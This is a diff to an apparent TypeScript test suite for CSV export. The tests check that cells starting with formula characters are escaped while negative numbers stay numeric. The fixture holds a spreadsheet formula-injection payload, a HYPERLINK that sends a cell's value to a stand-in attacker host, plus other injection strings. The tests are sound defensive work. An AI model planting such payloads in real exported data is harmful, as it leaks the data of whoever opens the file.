@@ -5,6 +5,7 @@ import { rowRecord } from '../../../src/data/import-rows';
 import { figureRows, toCsv } from '../../../src/export/csv';
 import { toDatasetCsv } from '../../../src/export/data-csv';
 import type { ExportContext } from '../../../src/export/export-context';
+import { CSV_TEXT } from '../../../src/export/csv-text';
 import { exportFileName } from '../../../src/export/file-name';
 import { defaultFilters, type Filters } from '../../../src/state/view';
 import { dataset } from '../support/dataset';
@@ -77,6 +78,7 @@ describe('CSV export', () => {
     value: -12.5,
     yoyPercent: -3.2,
     excerpt: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    excerptZh: '-1 译文',
     note: { en: '@SUM(1+1)', zh: '+1 又\n=2' },
   };
 
@@ -86,11 +88,15 @@ describe('CSV export', () => {
       const csv = toCsv([hostile], dataset, { ...context(lang), headline: '-5% in 2025' });
       const { meta, table } = parse(csv);
       const row = table[1] ?? [];
-      expect(row[13]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
-      expect(row[14]).toBe(lang === 'en' ? "'@SUM(1+1)" : "'+1 又\n=2");
+      const c = CSV_TEXT[lang].columns;
+      const col = (name: string) => row[(table[0] ?? []).indexOf(name)];
+      expect(col(c.excerpt)).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
+      expect(col(c.note)).toBe(lang === 'en' ? "'@SUM(1+1)" : "'+1 又\n=2");
+      // The translation column is there only where a translation into the reader's language is.
+      expect(col(c.excerptTranslation)).toBe(lang === 'en' ? undefined : "'-1 译文");
       // A negative figure and a negative growth rate stay plain numbers a spreadsheet can sum.
-      expect(row[4]).toBe('-12.5');
-      expect(row[8]).toBe('-3.2');
+      expect(col(c.value)).toBe('-12.5');
+      expect(col(c.yoy)).toBe('-3.2');
       expect(csv).toContain(',-12.5,');
       expect(meta[1]?.[1]).toBe("'-5% in 2025");
     },
@@ -103,6 +109,7 @@ describe('CSV export', () => {
     const row = table[1] ?? [];
     const col = (name: string) => row[header.indexOf(name)];
     expect(col('excerpt')).toBe(`'${hostile.excerpt}`);
+    expect(col('excerptZh')).toBe("'-1 译文");
     expect(col('note.en')).toBe("'@SUM(1+1)");
     expect(col('value')).toBe('-12.5');
     expect(col('yoyPercent')).toBe('-3.2');
